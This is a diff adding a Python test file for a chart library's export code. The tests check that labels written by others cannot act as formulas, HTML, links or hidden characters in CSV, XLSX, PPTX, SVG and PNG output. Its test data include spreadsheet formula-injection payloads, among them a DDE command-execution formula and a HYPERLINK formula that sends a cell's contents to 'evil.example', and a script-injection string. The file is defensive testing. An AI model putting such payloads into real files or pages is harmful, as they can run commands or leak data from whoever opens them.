@@ -1,0 +1,333 @@
+"""Labels that others wrote, in every output: a formula stays text, HTML stays text, what nobody sees is refused."""
+
+import csv
+import io
+import json
+import math
+import xml.etree.ElementTree as ET
+import zipfile
+from collections.abc import Iterator
+from dataclasses import replace
+from html.parser import HTMLParser
+from typing import Any
+
+import openpyxl
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from PIL import Image
+
+from ilag_data.charts import Chart, Column, Grid, Source, Table
+from ilag_data.charts.body import Figures
+from ilag_data.charts.contents import LONGEST_NAME
+from ilag_data.charts.export import render
+from ilag_data.charts.export_csv import csv_bytes
+from ilag_data.errors import ChartError, IlagError
+from ilag_data.metadata import Metadata
+from ilag_data.untrusted import spreadsheet_text, unseen, visible
+from tests.chart_kinds import every_kind
+
+KINDS = list(every_kind("no"))
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1;"Tydal")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "＝1+1",
+    "-cmd|x!A0",
+    "+47;=1",
+]
+PLAIN = [
+    "-10",
+    "−10",
+    "+2,5 %",
+    "-",
+    "..",
+    "- 1 000",
+    "0–5 år",
+    "Snåase - Snåsa",
+    "a=b",
+    "https://ssb.no",
+    "'x",
+]
+
+
+def labelled(chart: Chart, text: str) -> Chart:
+    """The chart with its first name replaced."""
+
+    def change(body: Any) -> Any:  # noqa: ANN401 (any kind)
+        if isinstance(body, Grid):
+            return replace(body, panels=tuple(map(change, body.panels)))
+        frame = body.frame
+        column = next(name for name in ("name", "category", "group", "") if name in frame)
+        names = frame[column].astype(object)
+        return replace(body, frame=frame.assign(**{column: names.where(names != names.iloc[0], text)}))
+
+    return replace(chart, body=change(chart.body))
+
+
+def listing(*texts: str) -> Chart:
+    """A table with the texts in its first column, and as its header."""
+    frame = pd.DataFrame({"name": list(texts), "n": [-10.0] * len(texts)})
+    return replace(every_kind("no")["table"], body=Table(frame, (Column("name", texts[0]), Column("n", "n"))))
+
+
+def workbooks(content: bytes) -> Iterator[bytes]:
+    """The workbook, or those inside a presentation."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        if "xl/workbook.xml" in archive.namelist():
+            yield content
+        for name in archive.namelist():
+            if name.endswith(".xlsx"):
+                yield archive.read(name)
+
+
+def xml_parts(content: bytes) -> Iterator[tuple[str, ET.Element]]:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.endswith((".xml", ".rels")):
+                yield name, ET.fromstring(archive.read(name))  # noqa: S314 (our own file)
+
+
+# ---- Formulas ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_holds_no_cell_that_a_spreadsheet_calculates(text: str) -> None:
+    for lang, delimiter in (("no", ";"), ("en", ",")):
+        frame = pd.DataFrame({text: [text, "Tydal"], "n": [-10, 2.5]})
+        content = csv_bytes(frame, "no" if lang == "no" else "en").decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
+        assert [row[0] for row in rows] == [f"'{text}", f"'{text}", "Tydal"]
+        assert rows[1][1] == "-10", "a negative number stays a number"
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_csv_leaves_signed_numbers_and_symbols_as_they_are(text: str) -> None:
+    assert spreadsheet_text(text) == text
+
+
+@given(st.text(max_size=12))
+def test_no_text_of_a_csv_begins_as_a_formula_unless_it_is_a_plain_number(text: str) -> None:
+    written = spreadsheet_text(text)
+    assert written.removeprefix("'") == text or written == text
+    bare = written.lstrip()
+    if bare[:1] in tuple("=@＝＠"):
+        pytest.fail(f"{text!r} is calculated")
+    if bare[:1] in tuple("+-＋－"):
+        assert not any(letter.isalpha() or letter in "()|!*/&'\"+-" for letter in bare[1:])
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("text", ["=1+1", "-10"])
+def test_workbooks_hold_texts_as_texts_and_numbers_as_numbers(kind: str, text: str) -> None:
+    chart = labelled(every_kind("no")[kind], text)
+    contents = render(chart, ["xlsx", "pptx"])
+    for content in contents.values():
+        for workbook in workbooks(content):
+            found = []
+            for sheet in openpyxl.load_workbook(io.BytesIO(workbook)).worksheets:
+                cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+                assert {cell.data_type for cell in cells} <= {"s", "n"}
+                assert not any(cell.hyperlink for cell in cells)
+                found += [cell.value for cell in cells]
+            assert content is not contents["xlsx"] or text in found
+    for name, root in xml_parts(contents["pptx"]):
+        assert not [part for part in root.iter() if part.tag.endswith("}hlinkClick")], name
+
+
+def test_addresses_in_labels_do_not_become_links_in_workbooks() -> None:
+    for kind in ("table", "bars", "scatter"):
+        for content in render(labelled(every_kind("no")[kind], "http://e.no"), ["xlsx", "pptx"]).values():
+            for workbook in workbooks(content):
+                assert not [name for name, root in xml_parts(workbook) if b"hyperlink" in ET.tostring(root)]
+
+
+# ---- HTML and XML -----------------------------------------------------------------------------------------
+
+MARKUP = """<script>alert("1")</script> & <b>' ]]> &lt; <!--"""
+
+
+class Tags(HTMLParser):
+    """What an HTML document has: tags with their attributes, and text."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def test_markup_in_any_text_of_a_chart_is_text_in_every_output() -> None:
+    model = every_kind("no")["table"]
+    said = dict.fromkeys(("title", "subtitle", "note", "method", "alt_text"), MARKUP)
+    source = Source(f"Kilde: {MARKUP}", MARKUP, MARKUP, notes=(MARKUP,))
+    chart = replace(listing(MARKUP, "=x"), name="x", sources=(source,), source=f"Kilde: {MARKUP}", **said)
+    bundle, _ = chart._repr_mimebundle_()
+    shown = Tags(bundle["text/html"])
+    assert [tag for tag, _ in shown.tags] == ["img"]
+    assert shown.tags[0][1]["alt"] == MARKUP
+    contents = render(chart, ["png", "svg", "pdf", "xlsx", "pptx"])
+
+    root = ET.fromstring(contents["svg"])  # noqa: S314 (our own file)
+    plain = ET.fromstring(render(model, ["svg"])["svg"])  # noqa: S314
+    assert {part.tag for part in root.iter()} == {part.tag for part in plain.iter()}
+    assert root.find("{http://www.w3.org/2000/svg}desc").text == MARKUP  # type: ignore[union-attr]
+    assert MARKUP in [part.text for part in root.iter("{http://www.w3.org/2000/svg}text")]
+
+    with Image.open(io.BytesIO(contents["png"])) as picture:
+        assert picture.info["Description"] == MARKUP
+    texts = [part.text for _, root in xml_parts(contents["pptx"]) for part in root.iter()]
+    assert texts.count(MARKUP) >= 6
+    sheets = openpyxl.load_workbook(io.BytesIO(contents["xlsx"])).worksheets
+    assert [str(cell.value) for sheet in sheets for row in sheet for cell in row].count(MARKUP) >= 6
+
+
+def test_the_card_of_a_table_shows_markup_as_text() -> None:
+    table = {
+        "class": "dataset",
+        "label": MARKUP,
+        "source": MARKUP,
+        "updated": MARKUP,
+        "note": [MARKUP],
+        "id": [MARKUP, "Tid"],
+        "size": [1, 1],
+        "role": {"time": ["Tid"]},
+        "dimension": {
+            MARKUP: {
+                "label": MARKUP,
+                "category": {"index": [MARKUP], "label": {MARKUP: MARKUP + "x"}},
+                "extension": {"codelists": [{"id": MARKUP, "label": MARKUP}]},
+            },
+            "Tid": {"category": {"index": [MARKUP]}},
+        },
+        "extension": {"px": {"tableid": MARKUP}},
+    }
+    card = Tags(Metadata.read("07459", json.dumps(table).encode())._repr_html_())
+    assert not {"script", "b"} & {tag for tag, _ in card.tags}
+    assert not [name for _, attributes in card.tags for name in attributes if name.startswith("on")]
+    assert card.text.count(MARKUP) >= 8
+
+
+def test_frames_show_markup_as_text() -> None:
+    shown = Tags(pd.DataFrame({MARKUP: [MARKUP]})._repr_html_())  # type: ignore[operator]
+    assert not {"script", "b"} & {tag for tag, _ in shown.tags}
+
+
+def test_a_dollar_sign_is_no_formula_of_tex() -> None:
+    svg = render(listing("$x^2$ og $"), ["svg"])["svg"].decode()
+    assert "$x^2$ og $" in svg
+
+
+# ---- Characters that nobody sees --------------------------------------------------------------------------
+
+UNSEEN = ["\x00", "\x01", "\x08", "\x0b", "\x1b[31m", "\x7f", "\x85", "\u202e", "\u2066", "\ud800", "\ufffe", "\uffff"]  # fmt: skip
+
+
+@pytest.mark.parametrize("character", UNSEEN)
+def test_unseen_characters_are_refused_wherever_they_stand_in_a_chart(character: str) -> None:
+    model, text = every_kind("no")["table"], f"Ty{character}dal"
+    number = f"U\\+{ord(character[0]):04X}"
+    for part in ("title", "subtitle", "note", "method", "alt_text"):
+        with pytest.raises(ChartError, match=f"text of the {part} .*{number}"):
+            replace(model, **{part: text})
+    with pytest.raises(ChartError, match=f"text of the column name .*{number}"):
+        labelled(every_kind("no")["lines"], text)
+    with pytest.raises(ChartError, match=f"text of the notes .*{number}"):
+        replace(model, sources=(Source("Kilde: SSB", notes=(text,)),))
+    with pytest.raises(ChartError, match=f"text of the (column )?names? .*{number}|column {number}|{number}"):
+        listing(text)
+    grid = every_kind("no")["grid"]
+    assert isinstance(grid.body, Grid)
+    with pytest.raises(ChartError, match=f"text of the paragraph .*{number}"):
+        replace(grid, body=replace(grid.body, paragraph=text))
+
+
+@given(st.text(max_size=20))
+def test_what_is_made_visible_can_be_seen_and_what_is_seen_stays(text: str) -> None:
+    shown = visible(text)
+    assert unseen(shown) is None
+    assert unseen(text) or shown == text
+    assert IlagError(text, "x").problem == shown
+    assert str(IlagError("x", text)).endswith(shown)
+
+
+def test_letters_signs_and_line_breaks_of_real_labels_are_seen() -> None:
+    for text in (
+        "Snåase - Snåsa",
+        "Trööndelage\tx\ny",
+        "2\u00a0480",
+        "−10,8\u00a0%",
+        "Šluppe čáhci 🐟",
+        "\u00ad",
+    ):
+        assert unseen(text) is None
+
+
+# ---- Lengths and numbers ----------------------------------------------------------------------------------
+
+
+def test_a_name_longer_than_any_name_is_refused() -> None:
+    with pytest.raises(
+        ChartError, match=f"column name .* has {LONGEST_NAME + 1} characters; {LONGEST_NAME} is"
+    ):
+        labelled(every_kind("no")["lines"], "n" * (LONGEST_NAME + 1))
+    with pytest.raises(ChartError, match=r"method .* has 32768 characters; 32767 is the most"):
+        replace(every_kind("no")["lines"], method="n" * 32_768)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("text", ["n" * LONGEST_NAME, "nn " * 100], ids=["one word", "many words"])
+def test_a_long_name_is_drawn_or_refused_in_words(kind: str, text: str) -> None:
+    chart = labelled(every_kind("no")[kind], text)
+    for form in ("png", "xlsx", "csv"):
+        remedy = ""
+        try:
+            assert render(chart, [form])[form]
+        except ChartError as error:
+            remedy = error.remedy
+        assert not remedy or "shorten" in remedy or "fewer" in remedy
+        assert not remedy or form == "png", "data are exported however long their names are"
+
+
+@pytest.mark.parametrize("number", [math.inf, -math.inf])
+def test_an_infinite_number_is_refused_before_anything_is_written(number: float) -> None:
+    frame = pd.DataFrame({"name": ["a"], "n": [number]})
+    body = Table(frame, (Column("name", "a"), Column("n", "n")))
+    with pytest.raises(ChartError, match="column n has an infinite number"):
+        replace(every_kind("no")["table"], body=body)
+    lines = every_kind("no")["lines"].body
+    assert isinstance(lines, Figures)
+    with pytest.raises(ChartError, match="infinite"):
+        replace(lines, frame=lines.frame.assign(value=number))
+
+
+@pytest.mark.parametrize("dtype", ["int64", "Int64"])
+def test_an_integer_that_excel_would_round_is_refused(dtype: str) -> None:
+    def chart(number: int) -> Chart:
+        frame = pd.DataFrame({"name": ["a"], "n": pd.array([number], dtype=dtype)})
+        return replace(every_kind("no")["table"], body=Table(frame, (Column("name", "a"), Column("n", "n"))))
+
+    with pytest.raises(ChartError, match=r"column n has an integer of 2\*\*53 or more"):
+        chart(2**53)
+    with pytest.raises(ChartError, match=r"2\*\*53"):
+        chart(-(2**53))
+    contents = render(chart(2**53 - 1), ["csv", "xlsx"])
+    assert contents["csv"].decode("utf-8-sig").splitlines()[1] == "a;9007199254740991"
+    cell = openpyxl.load_workbook(io.BytesIO(contents["xlsx"])).worksheets[0]["B2"]
+    assert int(cell.value) == 2**53 - 1
